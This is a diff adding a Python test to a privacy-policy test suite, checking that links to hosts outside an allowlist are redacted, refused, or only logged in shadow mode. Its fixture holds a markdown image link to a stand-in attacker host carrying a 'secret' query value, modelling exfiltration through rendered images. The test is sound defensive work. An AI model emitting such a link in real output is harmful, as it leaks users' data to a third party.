@@ -192,3 +192,19 @@ async def test_what_only_looks_like_a_token_hides_nothing() -> None:
         {"redact": [{**MAILS, "kinds": ["card"], "action": "drop"}]}, looks.replace("_", " "), vault=vault
     )
     assert found.value == "CRD "
+
+
+async def test_links_to_other_hosts_are_taken_out_or_refused() -> None:
+    links: dict[str, Json] = {"hosts": ["acme.org", "*.acme.org"]}
+    text = "see https://docs.acme.org/a and ![x](https://evil.example/?q=secret)"
+    value = {"a": [text], "n": 1}
+    found = await applied({"links": links}, value, influenced="answer")
+    assert found.value == {"a": [text.replace("https://evil.example/?q=secret", "[link removed]")], "n": 1}
+    assert [(one.rule, one.verdict) for one in found.decisions] == [("privacy:links", "redact")]
+    with pytest.raises(PrivacyRefusal, match="links to hosts that the policy does not name"):
+        await applied({"links": {**links, "others": "deny"}}, value, influenced="answer")
+    assert (await applied({"links": {**links, "others": "deny"}}, value, influenced="input")).value is value
+    shadow = await applied({"links": {**links, "others": "deny", "mode": "shadow"}}, value, influenced="answer")
+    assert (shadow.value, shadow.decisions[0].enforced) == (value, False)
+    only: dict[str, Json] = {"links": {"hosts": ["evil.example", "docs.acme.org"]}}
+    assert (await applied(only, value, influenced="answer")).decisions == []
